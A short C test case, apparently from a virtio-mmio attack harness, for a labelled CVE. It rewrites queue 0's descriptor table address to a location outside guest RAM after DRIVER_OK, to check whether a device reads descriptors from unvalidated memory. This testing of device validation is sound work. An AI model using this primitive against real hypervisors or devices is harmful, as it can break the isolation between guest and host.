/*
 * CVE-2026-5747, address rewrite: after DRIVER_OK, queue 0's descriptor table is moved to
 * an address outside guest RAM. A device that accepts it reads descriptors from memory that was
 * never validated.
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    write64(VIRTIO_MMIO_QUEUE_DESC_LOW, OUTSIDE_RAM);
}

int main(void)
{
    return register_attack("queue-desc-outside", rewrite);
}
